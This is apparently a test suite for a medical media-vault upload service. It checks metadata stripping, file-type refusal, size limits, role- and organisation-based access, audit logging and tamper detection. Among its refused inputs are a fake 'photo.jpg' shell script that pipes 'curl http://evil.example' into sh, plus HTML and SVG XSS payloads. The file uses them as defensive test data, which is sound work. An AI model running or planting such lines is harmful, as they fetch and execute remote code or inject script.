// Intake against the real FerretDB, Kafka and Azurite: what is stored, what is refused and why,
// who can read it. Bad input from the issue: polyglots, renamed scripts, SVG, a 30000×30000 PNG,
// truncated and empty files, oversized streams, too many files, GPS in EXIF, tampered bytes,
// another organisation's ids.
import { createHash } from 'node:crypto';
import { toBinary } from '@bufbuild/protobuf';
import { timestampDate } from '@bufbuild/protobuf/wkt';
import { Code, ConnectError } from '@connectrpc/connect';
import exifr from 'exifr';
import {
  AccessPurpose,
  DeletedBy,
  Disposition,
  ListObjectsResponseSchema,
  PhotoQuality_Verdict,
  type ReadObjectHeader,
} from '@cairn/contracts/cairn/media_vault/v1/media_vault_pb';
import {
  ObjectRejectedSchema,
  ObjectStoredSchema,
  ObjectAccessed_Access,
  ObjectAccessedSchema,
  RejectionReason,
} from '@cairn/contracts/cairn/media_vault/events/v1/events_pb';
import { EventLog } from './support/events';
import {
  jpegHtmlPolyglot,
  pdfWithJavaScript,
  photoWithGps,
  plainPdf,
  pngBombHeader,
} from './support/fixtures';
import {
  OTHER_ORG,
  ORG,
  PATIENT,
  OTHER_PATIENT,
  startVaultHarness,
  type VaultHarness,
} from './support/vault-harness';

async function refusal(promise: Promise<unknown>): Promise<ConnectError> {
  try {
    await promise;
  } catch (error) {
    return ConnectError.from(error);
  }
  throw new Error('expected the call to fail');
}

let group = 0;
const nextGroup = () => `response-${++group}`;

describe('media-vault intake and access', () => {
  let h: VaultHarness;
  const log = new EventLog();
  let photo: Buffer;

  beforeAll(async () => {
    h = await startVaultHarness();
    await log.start(h.eventsTopic);
    photo = await photoWithGps();
  });
  afterAll(async () => {
    await log.stop();
    await h?.stop();
  });

  it('stores a photo re-encoded without GPS or any EXIF, with hashes, quality and a thumbnail', async () => {
    expect(await exifr.gps(photo)).toBeDefined();
    const stored = await h.upload(photo, { groupId: nextGroup() });
    expect(stored.mediaType).toBe('image/jpeg');
    expect(stored.thumbnailAvailable).toBe(true);
    expect(Buffer.from(stored.originalSha256)).toEqual(createHash('sha256').update(photo).digest());
    expect(stored.quality?.verdict).toBeDefined();
    expect(stored.quality?.resolutionMegapixels).toBeCloseTo(1.08, 1);

    const { header, bytes } = await h.read(stored.objectId);
    expect(header.disposition).toBe(Disposition.INLINE);
    expect(Buffer.from(header.sha256)).toEqual(createHash('sha256').update(bytes).digest());
    expect(Buffer.from(stored.storedSha256)).toEqual(Buffer.from(header.sha256));
    expect(await exifr.gps(bytes)).toBeUndefined();
    expect(
      await exifr.parse(bytes, { tiff: true, xmp: true, iptc: true, gps: true }),
    ).toBeUndefined();
    expect(bytes.includes(Buffer.from('CairnTestCam'))).toBe(false);

    await log.waitFor((e) => e.is(ObjectStoredSchema) && e.message.objectId === stored.objectId);
    const accessed = await log.waitFor(
      (e) => e.is(ObjectAccessedSchema) && e.message.objectId === stored.objectId,
    );
    expect(accessed[0]!.actor?.kind).toBe('staff');
  });

  it('warns about a blurred photo with plain advice', async () => {
    const sharp = (await import('sharp')).default;
    const blurred = await sharp(photo).blur(15).toBuffer();
    const stored = await h.upload(blurred, { groupId: nextGroup() });
    expect(stored.quality?.verdict).toBe(PhotoQuality_Verdict.POOR);
    expect(stored.quality?.advice.join(' ')).toMatch(/blurred/);
  });

  it('accepts PNG, WebP and AVIF-coded HEIF, and explains an HEVC HEIC it cannot open', async () => {
    const sharp = (await import('sharp')).default;
    const small = sharp(photo).resize(400);
    const cases: Array<[Buffer, string]> = [
      [await small.clone().png().toBuffer(), 'image/png'],
      [await small.clone().webp().toBuffer(), 'image/webp'],
      [await small.clone().heif({ compression: 'av1' }).toBuffer(), 'image/jpeg'],
    ];
    for (const [bytes, stored] of cases) {
      const object = await h.upload(bytes, { groupId: nextGroup() });
      expect(object.mediaType).toBe(stored);
    }
    const heic = Buffer.concat([
      Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00', 'latin1'),
      Buffer.alloc(500, 7),
    ]);
    const error = await refusal(
      h.upload(heic, { groupId: nextGroup(), filename: 'IMG_0001.HEIC' }),
    );
    expect(error.code).toBe(Code.InvalidArgument);
    expect(error.rawMessage).toMatch(/Most Compatible/);
  });

  it('neutralises a JPEG/HTML polyglot: the stored image holds no markup', async () => {
    const stored = await h.upload(await jpegHtmlPolyglot(), { groupId: nextGroup() });
    const { bytes } = await h.read(stored.objectId);
    expect(bytes.includes(Buffer.from('<script'))).toBe(false);
    expect(bytes.includes(Buffer.from('<html'))).toBe(false);
  });

  it.each([
    [
      'HTML that embeds a JPEG',
      Buffer.concat([Buffer.from('<html><body><script>alert(1)</script>'), Buffer.alloc(100)]),
    ],
    [
      'a shell script named photo.jpg',
      Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'.repeat(5)),
    ],
    [
      'an SVG',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>',
      ),
    ],
    ['a ZIP archive', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(200)])],
  ])('refuses %s, naming what is accepted', async (_, bytes) => {
    const groupId = nextGroup();
    const error = await refusal(
      h.upload(bytes, { groupId, filename: 'photo.jpg', declaredType: 'image/jpeg' }),
    );
    expect(error.code).toBe(Code.InvalidArgument);
    expect(error.rawMessage).toMatch(/JPEG, PNG, WebP or HEIC\) or a PDF/);
    const rejected = await log.waitFor(
      (e) => e.is(ObjectRejectedSchema) && e.message.groupId === groupId,
    );
    expect((rejected[0]!.message as unknown as { reason: RejectionReason }).reason).toBe(
      RejectionReason.TYPE_NOT_ALLOWED,
    );
  });

  it('refuses a 30000×30000 PNG from its header, before decoding', async () => {
    const error = await refusal(
      h.upload(pngBombHeader(), { groupId: nextGroup(), filename: 'bomb.png' }),
    );
    expect(error.code).toBe(Code.InvalidArgument);
    expect(error.rawMessage).toMatch(/too large in width and height/);
  });

  it('refuses a truncated JPEG and an empty file', async () => {
    const truncated = await refusal(
      h.upload(photo.subarray(0, Math.floor(photo.length / 2)), { groupId: nextGroup() }),
    );
    expect(truncated.code).toBe(Code.InvalidArgument);
    expect(truncated.rawMessage).toMatch(/damaged or incomplete/);
    const empty = await refusal(h.upload(Buffer.alloc(0), { groupId: nextGroup() }));
    expect(empty.code).toBe(Code.InvalidArgument);
    expect(empty.rawMessage).toMatch(/empty/);
  });

  it('stops an oversized stream as soon as it passes the limit, and a declared size at once', async () => {
    const big = Buffer.concat([photo.subarray(0, 4), Buffer.alloc(20_000_001)]);
    const error = await refusal(
      h.upload(big, { groupId: nextGroup() }, { chunkSize: 1024 * 1024 }),
    );
    expect(error.code).toBe(Code.ResourceExhausted);
    expect(error.rawMessage).toMatch(/20 MB or smaller/);
    const declared = await refusal(
      h.upload(photo, { groupId: nextGroup(), declaredSize: 25_000_000n }),
    );
    expect(declared.code).toBe(Code.ResourceExhausted);
  });

  it('accepts five files per response and refuses the sixth; deleting one frees a place', async () => {
    const groupId = nextGroup();
    const small = await (await import('sharp')).default(photo).resize(300).jpeg().toBuffer();
    const stored = [];
    for (let i = 0; i < 5; i++) stored.push(await h.upload(small, { groupId }));
    const sixth = await refusal(h.upload(small, { groupId }));
    expect(sixth.code).toBe(Code.ResourceExhausted);
    expect(sixth.rawMessage).toMatch(/up to 5 files/);

    await h.client.deleteObject(
      { objectId: stored[0]!.objectId, reason: 'patient removed it', organisation: ORG, groupId },
      h.service(),
    );
    const listed = await h.client.listObjects({ groupId }, await h.staff());
    expect(listed.objects.map((o) => o.objectId)).toEqual(stored.slice(1).map((o) => o.objectId));
    await h.upload(small, { groupId });
  });

  it('answers a retried upload with the object stored the first time', async () => {
    const groupId = nextGroup();
    const first = await h.upload(photo, { groupId, clientUploadId: 'attempt-1' });
    const retry = await h.upload(photo, { groupId, clientUploadId: 'attempt-1' });
    expect(retry.objectId).toBe(first.objectId);
    const other = await h.upload(photo, { groupId, clientUploadId: 'attempt-2' });
    expect(other.objectId).not.toBe(first.objectId);
    const listed = await h.client.listObjects({ groupId }, await h.staff());
    expect(listed.objects).toHaveLength(2);
  });

  it('refuses a response id already used for another patient', async () => {
    const groupId = nextGroup();
    await h.upload(photo, { groupId });
    const error = await refusal(h.upload(photo, { groupId, nhsNumber: OTHER_PATIENT }));
    expect(error.code).toBe(Code.PermissionDenied);
  });

  it('accepts a plain PDF, always served as an attachment, and refuses one with JavaScript', async () => {
    const pdf = await h.upload(await plainPdf(), { groupId: nextGroup(), filename: 'letter.pdf' });
    expect(pdf.mediaType).toBe('application/pdf');
    expect(pdf.pageCount).toBe(1);
    const { header } = await h.read(pdf.objectId, { download: false });
    expect(header.disposition).toBe(Disposition.ATTACHMENT);

    const error = await refusal(h.upload(await pdfWithJavaScript(), { groupId: nextGroup() }));
    expect(error.code).toBe(Code.InvalidArgument);
    expect(error.rawMessage).toMatch(/scripts or attached files/);
  });

  it('does not show another organisation’s object, nor to staff without a clinical role', async () => {
    const stored = await h.upload(photo, { groupId: nextGroup() });
    const other = await refusal(h.read(stored.objectId, { claims: { org: OTHER_ORG } }));
    expect(other.code).toBe(Code.NotFound);
    const thumb = await refusal(
      h.client.getThumbnail({ objectId: stored.objectId }, await h.staff({ org: OTHER_ORG })),
    );
    expect(thumb.code).toBe(Code.NotFound);
    const admin = await refusal(h.read(stored.objectId, { claims: { roles: ['administrator'] } }));
    expect(admin.code).toBe(Code.PermissionDenied);
    const noCredential = await refusal(h.client.listObjects({ groupId: stored.groupId }));
    expect(noCredential.code).toBe(Code.Unauthenticated);
    // The gateway's credential uploads; it cannot read content.
    const asService = await refusal(
      (async () => {
        for await (const _ of h.client.readObject({ objectId: stored.objectId }, h.service()))
          void _;
      })(),
    );
    expect(asService.code).toBe(Code.PermissionDenied);
  });

  it('lets a privacy officer or Caldicott Guardian read and list only for subject access, own organisation only', async () => {
    const groupId = nextGroup();
    const stored = await h.upload(photo, { groupId });
    const readAs = async (
      claims: Record<string, unknown>,
      purpose: AccessPurpose,
      headers?: Record<string, string>,
    ) => {
      let header: ReadObjectHeader | undefined;
      const parts: Buffer[] = [];
      const call = h.client.readObject(
        { objectId: stored.objectId, purpose },
        headers ? { headers } : await h.staff(claims),
      );
      for await (const part of call) {
        if (part.part.case === 'header') header = part.part.value;
        else if (part.part.case === 'chunk') parts.push(Buffer.from(part.part.value));
      }
      return { header, bytes: Buffer.concat(parts) };
    };
    const officer = { sub: 'staff-po-1', roles: ['privacy-officer'] };
    const guardian = { sub: 'staff-cg-1', roles: ['caldicott-guardian'] };

    const read = await readAs(officer, AccessPurpose.SUBJECT_ACCESS);
    expect(read.header?.disposition).toBe(Disposition.ATTACHMENT);
    expect(createHash('sha256').update(read.bytes).digest()).toEqual(
      Buffer.from(stored.storedSha256),
    );
    expect((await readAs(guardian, AccessPurpose.SUBJECT_ACCESS)).bytes).toEqual(read.bytes);
    const listed = await h.client.listObjects(
      { groupId, purpose: AccessPurpose.SUBJECT_ACCESS },
      await h.staff(officer),
    );
    expect(listed.objects.map((o) => o.objectId)).toEqual([stored.objectId]);

    // Without the purpose the role reads nothing, and lists nothing.
    expect((await refusal(readAs(officer, AccessPurpose.UNSPECIFIED))).code).toBe(
      Code.PermissionDenied,
    );
    expect((await refusal(h.client.listObjects({ groupId }, await h.staff(officer)))).code).toBe(
      Code.PermissionDenied,
    );
    // The purpose gives nothing to other roles: a clinician, an administrator.
    for (const roles of [['clinician'], ['administrator']]) {
      expect((await refusal(readAs({ roles }, AccessPurpose.SUBJECT_ACCESS))).code).toBe(
        Code.PermissionDenied,
      );
    }
    // Another organisation's officer: not found, exactly like an unknown id; its list is empty.
    const other = await refusal(
      readAs({ ...officer, org: OTHER_ORG }, AccessPurpose.SUBJECT_ACCESS),
    );
    expect(other.code).toBe(Code.NotFound);
    const otherList = await h.client.listObjects(
      { groupId, purpose: AccessPurpose.SUBJECT_ACCESS },
      await h.staff({ ...officer, org: OTHER_ORG }),
    );
    expect(otherList.objects).toEqual([]);
    // The gateway's own credential cannot claim the purpose.
    const asService = await refusal(readAs({}, AccessPurpose.SUBJECT_ACCESS, h.service().headers));
    expect(asService.code).toBe(Code.PermissionDenied);

    // Each read is on the record with its purpose; an ordinary clinician read has none.
    const accessed = await log.waitFor(
      (e) =>
        e.is(ObjectAccessedSchema) &&
        e.message.objectId === stored.objectId &&
        e.message.purpose === AccessPurpose.SUBJECT_ACCESS,
      2,
    );
    expect(accessed.map((e) => e.actor?.id).sort()).toEqual(['staff-cg-1', 'staff-po-1']);
    await h.read(stored.objectId);
    const ordinary = await log.waitFor(
      (e) =>
        e.is(ObjectAccessedSchema) &&
        e.message.objectId === stored.objectId &&
        e.message.purpose === AccessPurpose.UNSPECIFIED,
    );
    expect(ordinary).toHaveLength(1);
  });

  it('lists and reads logically deleted objects for subject access only, marked deleted, on the record', async () => {
    const groupId = nextGroup();
    const kept = await h.upload(photo, { groupId, filename: 'kept.jpg' });
    const byStaff = await h.upload(photo, { groupId, filename: 'by-staff.jpg' });
    const byPatient = await h.upload(photo, { groupId, filename: 'by-patient.jpg' });
    const staffDeletion = await h.client.deleteObject(
      { objectId: byStaff.objectId, reason: 'Sent to the wrong practice: see note 12' },
      await h.staff({ sub: 'staff-cl-9' }),
    );
    await h.client.deleteObject(
      {
        objectId: byPatient.objectId,
        reason: 'Removed by the patient',
        organisation: ORG,
        groupId,
      },
      h.service(),
    );
    const guardian = { sub: 'staff-cg-2', roles: ['caldicott-guardian'] };
    const clinician = { sub: 'staff-cl-2', roles: ['clinician'] };
    const readAs = async (
      objectId: string,
      claims: Record<string, unknown>,
      purpose: AccessPurpose,
    ) => {
      let header: ReadObjectHeader | undefined;
      const parts: Buffer[] = [];
      for await (const part of h.client.readObject({ objectId, purpose }, await h.staff(claims))) {
        if (part.part.case === 'header') header = part.part.value;
        else if (part.part.case === 'chunk') parts.push(Buffer.from(part.part.value));
      }
      return { header: header!, bytes: Buffer.concat(parts) };
    };

    // A Caldicott Guardian's subject access list holds every object still held, the deleted ones
    // marked with when and by whom (a category), never the free-text reason or the person.
    const listed = await h.client.listObjects(
      { groupId, purpose: AccessPurpose.SUBJECT_ACCESS, includeDeleted: true },
      await h.staff(guardian),
    );
    expect(listed.includesDeleted).toBe(true);
    expect(listed.objects.map((o) => [o.objectId, o.deletedBy])).toEqual([
      [kept.objectId, DeletedBy.UNSPECIFIED],
      [byStaff.objectId, DeletedBy.STAFF],
      [byPatient.objectId, DeletedBy.PATIENT],
    ]);
    expect(listed.objects[0]!.deletedAt).toBeUndefined();
    expect(timestampDate(listed.objects[1]!.deletedAt!)).toEqual(
      timestampDate(staffDeletion.deletedAt!),
    );
    expect(listed.objects[2]!.deletedAt).toBeDefined();
    const wire = Buffer.from(toBinary(ListObjectsResponseSchema, listed)).toString('latin1');
    expect(wire).not.toContain('wrong practice');
    expect(wire).not.toContain('staff-cl-9');
    // Without include_deleted the subject access list is the ordinary one.
    const plain = await h.client.listObjects(
      { groupId, purpose: AccessPurpose.SUBJECT_ACCESS },
      await h.staff(guardian),
    );
    expect(plain.includesDeleted).toBe(false);
    expect(plain.objects.map((o) => o.objectId)).toEqual([kept.objectId]);

    // Readable for subject access: the stored bytes, marked deleted in the header.
    const read = await readAs(byStaff.objectId, guardian, AccessPurpose.SUBJECT_ACCESS);
    expect(read.header.disposition).toBe(Disposition.ATTACHMENT);
    expect(read.header.deletedAt).toBeDefined();
    expect(createHash('sha256').update(read.bytes).digest()).toEqual(
      Buffer.from(byStaff.storedSha256),
    );
    const [accessed] = await log.waitFor(
      (e) =>
        e.is(ObjectAccessedSchema) &&
        e.message.objectId === byStaff.objectId &&
        e.message.purpose === AccessPurpose.SUBJECT_ACCESS,
    );
    expect(accessed!.actor?.id).toBe('staff-cg-2');
    expect(accessed!.message).toMatchObject({
      accessedBy: 'staff:staff-cg-2',
      objectDeleted: true,
      access: ObjectAccessed_Access.DOWNLOAD,
    });

    // Direct care never sees them: not listed, not readable, and asking to include them is refused.
    const forCare = await h.client.listObjects({ groupId }, await h.staff(clinician));
    expect(forCare.objects.map((o) => o.objectId)).toEqual([kept.objectId]);
    expect(forCare.objects.every((o) => o.deletedAt === undefined)).toBe(true);
    expect(
      (
        await refusal(
          h.client.listObjects({ groupId, includeDeleted: true }, await h.staff(clinician)),
        )
      ).code,
    ).toBe(Code.InvalidArgument);
    for (const objectId of [byStaff.objectId, byPatient.objectId]) {
      expect((await refusal(readAs(objectId, clinician, AccessPurpose.UNSPECIFIED))).code).toBe(
        Code.NotFound,
      );
      expect(
        (await refusal(h.client.getThumbnail({ objectId }, await h.staff(clinician)))).code,
      ).toBe(Code.NotFound);
    }
    // Nor the gateway's credential, nor the subject access roles without the purpose, nor a
    // clinician naming the purpose, nor another organisation's guardian.
    expect(
      (
        await refusal(
          h.client.listObjects({ groupId, organisation: ORG, includeDeleted: true }, h.service()),
        )
      ).code,
    ).toBe(Code.InvalidArgument);
    expect(
      (
        await refusal(
          h.client.listObjects({ groupId, includeDeleted: true }, await h.staff(guardian)),
        )
      ).code,
    ).toBe(Code.PermissionDenied);
    expect(
      (await refusal(readAs(byStaff.objectId, clinician, AccessPurpose.SUBJECT_ACCESS))).code,
    ).toBe(Code.PermissionDenied);
    expect(
      (
        await refusal(
          readAs(byStaff.objectId, { ...guardian, org: OTHER_ORG }, AccessPurpose.SUBJECT_ACCESS),
        )
      ).code,
    ).toBe(Code.NotFound);
    const elsewhere = await h.client.listObjects(
      { groupId, purpose: AccessPurpose.SUBJECT_ACCESS, includeDeleted: true },
      await h.staff({ ...guardian, org: OTHER_ORG }),
    );
    expect(elsewhere.objects).toEqual([]);
  });

  it('lets the gateway read a document sent to a patient, only in its document group', async () => {
    const readAsService = async (req: {
      objectId: string;
      organisation: string;
      groupId: string;
    }) => {
      const parts: Buffer[] = [];
      let header: ReadObjectHeader | undefined;
      for await (const part of h.client.readObject(req, h.service())) {
        if (part.part.case === 'header') header = part.part.value;
        else if (part.part.case === 'chunk') parts.push(Buffer.from(part.part.value));
      }
      return { header, bytes: Buffer.concat(parts) };
    };
    const documentGroup = `document:${nextGroup()}`;
    const letter = await h.upload(await plainPdf(), {
      groupId: documentGroup,
      filename: 'letter.pdf',
    });
    const read = await readAsService({
      objectId: letter.objectId,
      organisation: ORG,
      groupId: documentGroup,
    });
    expect(read.header?.disposition).toBe(Disposition.ATTACHMENT);
    expect(read.bytes.subarray(0, 5).toString()).toBe('%PDF-');
    // Another document group, another organisation, or a photo group: nothing.
    const wrongGroup = await refusal(
      readAsService({
        objectId: letter.objectId,
        organisation: ORG,
        groupId: `document:${nextGroup()}`,
      }),
    );
    expect(wrongGroup.code).toBe(Code.NotFound);
    const wrongOrg = await refusal(
      readAsService({ objectId: letter.objectId, organisation: OTHER_ORG, groupId: documentGroup }),
    );
    expect(wrongOrg.code).toBe(Code.NotFound);
    const photoGroup = nextGroup();
    const stored = await h.upload(photo, { groupId: photoGroup });
    const photoRead = await refusal(
      readAsService({ objectId: stored.objectId, organisation: ORG, groupId: photoGroup }),
    );
    expect(photoRead.code).toBe(Code.PermissionDenied);
  });

  it('refuses uploads without the gateway credential or with a wrong one', async () => {
    const staff = await refusal(
      h.upload(photo, { groupId: nextGroup() }, { headers: (await h.staff()).headers }),
    );
    expect(staff.code).toBe(Code.PermissionDenied);
    const forged = await refusal(
      h.upload(
        photo,
        { groupId: nextGroup() },
        { headers: { authorization: `CairnService ${'x'.repeat(43)}` } },
      ),
    );
    expect(forged.code).toBe(Code.Unauthenticated);
  });

  it('fails loudly when a stored ciphertext byte is flipped', async () => {
    const stored = await h.upload(photo, { groupId: nextGroup() });
    const doc = await h.vault.db.models.objects.findById(stored.objectId).lean().exec();
    const blob = await h.vault.blobs.get(doc!.content.blobName);
    blob[Math.floor(blob.length / 2)] ^= 0x01;
    await h.vault.blobs.overwriteForTest(doc!.content.blobName, blob);
    const error = await refusal(h.read(stored.objectId));
    expect(error.code).toBe(Code.Internal);
  });

  it('hides a logically deleted object but keeps it for audit', async () => {
    const stored = await h.upload(photo, { groupId: nextGroup() });
    await h.client.deleteObject(
      { objectId: stored.objectId, reason: 'wrong patient' },
      await h.staff(),
    );
    expect((await refusal(h.read(stored.objectId))).code).toBe(Code.NotFound);
    const doc = await h.vault.db.models.objects.findById(stored.objectId).lean().exec();
    expect(doc?.deleted?.reason).toBe('wrong patient');
    expect(await h.vault.blobs.get(doc!.content.blobName)).toBeDefined();
    const noReason = await refusal(
      h.client.deleteObject({ objectId: stored.objectId, reason: ' ' }, await h.staff()),
    );
    expect(noReason.code).toBe(Code.InvalidArgument);
  });

  it('keeps patients apart: the same photo for two patients gets two keys', async () => {
    const a = await h.upload(photo, { groupId: nextGroup(), nhsNumber: PATIENT });
    const b = await h.upload(photo, { groupId: nextGroup(), nhsNumber: OTHER_PATIENT });
    const [da, db] = await Promise.all(
      [a, b].map((o) => h.vault.db.models.objects.findById(o.objectId).lean().exec()),
    );
    expect(da!.patientKeyId).not.toBe(db!.patientKeyId);
  });
});
